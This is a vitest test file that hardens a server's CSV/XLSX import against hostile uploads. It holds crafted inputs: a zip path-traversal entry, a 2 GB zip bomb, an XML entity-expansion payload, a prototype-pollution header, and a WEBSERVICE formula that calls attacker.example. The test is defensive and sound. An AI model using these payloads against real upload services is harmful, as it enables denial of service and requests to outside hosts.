import { describe, expect, it, vi } from 'vitest'
import { ZipFile } from 'yazl'

import { readTable } from '#server/features/listings/import/read-table.ts'
import { writeXlsx } from '#server/features/listings/import/write-xlsx.ts'

import { cpuTime } from '../../../../support/cpu-time.ts'
import { expectBelow } from '../../../../support/expect-below.ts'

async function zipped(parts: Readonly<Record<string, Buffer | string>>): Promise<Buffer> {
  const zip = new ZipFile()
  for (const [name, text] of Object.entries(parts)) zip.addBuffer(Buffer.from(text as string), name)
  zip.end()
  const chunks: Buffer[] = []
  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer)
  return Buffer.concat(chunks)
}

const workbook = {
  'xl/workbook.xml':
    '<workbook xmlns:r="r"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels':
    '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
}
const sheet = (rows: string) => ({
  ...workbook,
  'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
})
const merged = (rows: string, cells: string) => {
  const parts = sheet(rows)
  const name = 'xl/worksheets/sheet1.xml' as const
  return { ...parts, [name]: parts[name].replace('</sheetData>', `</sheetData>${cells}`) }
}
const megabytes = (count: number, text: string) =>
  text.repeat(Math.ceil((count * 1024 * 1024) / text.length))

const megabyte = 1024 * 1024

describe('a hostile table is refused within three seconds and without filling the memory', () => {
  it.each<[string, () => Promise<Buffer> | string, string]>([
    [
      'an entry outside its folder',
      async () => {
        // yazl refuses to write such a name, which is as long.
        const bytes = await zipped({ ...sheet('<row/>'), 'aa/aa/x': 'x' })
        return Buffer.from(bytes.toString('latin1').replaceAll('aa/aa/x', '../../x'), 'latin1')
      },
      'not a workbook',
    ],
    ['a million columns', () => `${'a,'.repeat(1e6)}\n1\n`, 'is opened and never closed, or a row'],
    ['a header per column, a million', () => megabytes(9, 'a,'), 'far too long'],
    ['a quote of 9 MB', () => `a,b\n1,"${megabytes(9, 'x')}`, 'never closed'],
    ['9 MB of quotes', () => megabytes(9, '"'), ''],
    ['9 MB of newlines', () => megabytes(9, '\n'), 'too many empty rows'],
    ['two million short rows', () => `a\n${megabytes(9, '1\n')}`, 'more than 5,000 rows'],
    ['cells of 9 MB', () => `a\n${megabytes(9, 'x')}`, 'far too long'],
    [
      'a bomb of 2 GB of spaces',
      () => zipped(sheet(`<row>${' '.repeat(200 * megabyte)}</row>`)),
      'far too large once it is unpacked',
    ],
    [
      'many entities',
      () =>
        zipped({
          ...sheet(''),
          'xl/sharedStrings.xml':
            '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><sst><si><t>&c;</t></si></sst>',
        }),
      'not a workbook',
    ],
    [
      'a sheet that never ends',
      () => zipped(sheet('<row><c t="inlineStr"><is><t>x')),
      'not a workbook',
    ],
    [
      'a cell in a column far away',
      () => zipped(sheet('<row><c r="ZZZZ1"><v>1</v></c></row>')),
      'not a workbook',
    ],
    [
      'elements within elements, five million',
      () => zipped(sheet('<a>'.repeat(5e6))),
      'not a workbook',
    ],
    [
      'an element with two million attributes',
      () =>
        zipped(sheet(`<row ${Array.from({ length: 2e6 }, (__, at) => `a${at}=""`).join(' ')}>`)),
      'not a workbook',
    ],
    [
      'a text of 20,000 characters in 320,000 cells',
      () =>
        zipped({
          ...sheet(
            `<row>${Array.from({ length: 64 }, (__, at) => `<c><v>${at}</v></c>`).join('')}</row>` +
              `<row>${'<c t="s"><v>0</v></c>'.repeat(64)}</row>`.repeat(5000),
          ),
          'xl/sharedStrings.xml': `<sst><si><t>${'x'.repeat(20_000)}</t></si></sst>`,
        }),
      'far too long together',
    ],
    ...['x', '1', '0', '-3', '2.5', '1e9'].map((row): [string, () => Promise<Buffer>, string] => [
      `a row ${row} after the first`,
      () => zipped(sheet(`<row r="1"><c><v>1</v></c></row><row r="${row}"><c><v>2</v></c></row>`)),
      row === '1e9' ? 'too many empty rows' : 'not a workbook',
    ]),
    [
      'a text of 20,000 characters that is merged over 4,000 rows',
      () =>
        zipped(
          merged(
            `<row><c><v>1</v></c></row><row><c t="str"><v>${'x'.repeat(20_000)}</v></c></row>${'<row><c><v>1</v></c></row>'.repeat(4000)}`,
            '<mergeCell ref="A2:XFD1048576"/>',
          ),
        ),
      'far too long together',
    ],
    [
      'a million merged cells',
      () =>
        zipped(
          merged(
            '<row><c><v>1</v></c></row>'.repeat(5000),
            '<mergeCell ref="A2:A1048576"/>'.repeat(1e6),
          ),
        ),
      'more than 320,000 cells',
    ],
    [
      'a million rows',
      () => zipped(sheet(megabytes(40, '<row><c><v>1</v></c></row>'))),
      'more than 5,000 rows',
    ],
  ])('%s', async (_, make, says) => {
    const bytes = Buffer.from((await make()) as string)
    const rss = process.memoryUsage().rss
    await expectBelow(3000, async () => {
      const before = cpuTime()
      const failure = await readTable(bytes, {}).then(
        () => 'was read',
        (error: Error) => error.message,
      )
      expect(failure).toContain(says)
      expect(failure).not.toBe('was read')
      return cpuTime() - before
    })
    expect((process.memoryUsage().rss - rss) / megabyte).toBeLessThan(150)
  })
})

it.each([
  ['CSV', () => Promise.resolve(Buffer.from(`a\n${'1\n'.repeat(4000)}`.padEnd(100_000, 'x')))],
  ['workbook', () => zipped(sheet('<row><c><v>1</v></c></row>'.repeat(4000)))],
])('a %s that takes 20 seconds is refused, and nothing is left running', async (_, make) => {
  const bytes = await make()
  let now = 0
  const clock = vi.spyOn(performance, 'now').mockImplementation(() => (now += 15_000))
  try {
    await expect(readTable(bytes, {})).rejects.toThrow('takes too long')
  } finally {
    clock.mockRestore()
  }
})

it('cells that are merged over everything and over one another cost nothing, and the first counts', async () => {
  const rows = Array.from({ length: 5000 }, (_, at) => `<row><c><v>${at}</v></c></row>`).join('')
  const everything = '<mergeCell ref="A3:XFD1048576"/>'
  const others = Array.from(
    { length: 100_000 },
    (_, at) => `<mergeCell ref="A${(at % 5000) + 2}:B1048576"/><mergeCell ref="ZZZZ1:A9"/>`,
  ).join('')
  const bytes = await zipped(merged(rows, `${everything}${others}`))
  await expectBelow(3000, async () => {
    const before = cpuTime()
    const { table } = await readTable(bytes, {})
    expect(table.rows.map(({ cells }) => cells[0])).toEqual(Array.from({ length: 4999 }, () => '1'))
    return cpuTime() - before
  })
})

describe('strange but honest tables are read', () => {
  it('headers that name parts of objects are names like any other', async () => {
    const { table } = await readTable(Buffer.from('__proto__,constructor,toString\n1,2,3\n'), {})
    expect(table.headers).toEqual(['__proto__', 'constructor', 'toString'])
    expect(({} as Record<string, unknown>)['1']).toBeUndefined()
  })

  it('a formula in a workbook is its stored value, and is never worked out', async () => {
    const rows =
      '<row r="1"><c r="A1" t="inlineStr"><is><t>Price</t></is></c><c r="B1" t="inlineStr"><is><t>Date</t></is></c></row>' +
      '<row r="2"><c r="A2"><f>WEBSERVICE("http://attacker.example")</f><v>1240.1</v></c><c r="B2" t="str"><f>NOW()</f></c></row>' +
      '<row r="3"><c r="A3"><v>0.30000000000000004</v></c></row>'
    const { table } = await readTable(await zipped(sheet(rows)), {})
    expect(table.rows.map(({ cells }) => cells)).toEqual([['1240.1'], ['0.3']])
  })

  it.each([
    ['1e30', '1e+30'],
    ['1e400', '1e400'],
    ['-0', '0'],
    ['-2.8e-17', '0'],
    ['1.5e-7', '0.00000015'],
    ['1234567890123456789', '1234567890123456789'],
    ['NaN', 'NaN'],
  ])('the number %s in a workbook is read as %s', async (value, text) => {
    const rows = `<row><c t="str"><v>A</v></c></row><row><c><v>${value}</v></c></row>`
    const { table } = await readTable(await zipped(sheet(rows)), {})
    expect(table.rows[0]?.cells).toEqual([text])
  })

  it('a workbook’s texts are without its escapes, and without how Japanese is pronounced', async () => {
    const text =
      '<t>a_x000D_\nb_x005F_x0041_ _x00e9_ 東京</t><rPh sb="0" eb="1"><t>トウキョウ</t></rPh>'
    const rows = `<row><c t="str"><v>A</v></c></row><row><c t="inlineStr"><is>${text}</is></c><c t="s"><v>0</v></c></row>`
    const parts = { ...sheet(rows.replace('<v>A</v></c>', '<v>A</v></c><c t="str"><v>B</v></c>')) }
    const shared = { 'xl/sharedStrings.xml': `<sst><si>${text}</si></sst>` }
    const { table } = await readTable(await zipped({ ...parts, ...shared }), {})
    const said = 'a\nb_x0041_ é 東京'
    expect(table.rows[0]?.cells).toEqual([said, said])
  })

  it('what looks like an escape comes back from a workbook of ours as it was', async () => {
    const rows = [['A'], ['ST_x0041_7 _x005F_']]
    const { table } = await readTable(await writeXlsx(rows), {})
    expect(table.rows[0]?.cells).toEqual(rows[1])
  })

  it('NUL and half a character are kept out of the database', async () => {
    const { table } = await readTable(Buffer.from('a,b\nx\u0000y,2\n'), {})
    expect(table.rows[0]?.cells[0]).toBe('x\uFFFDy')
  })
})
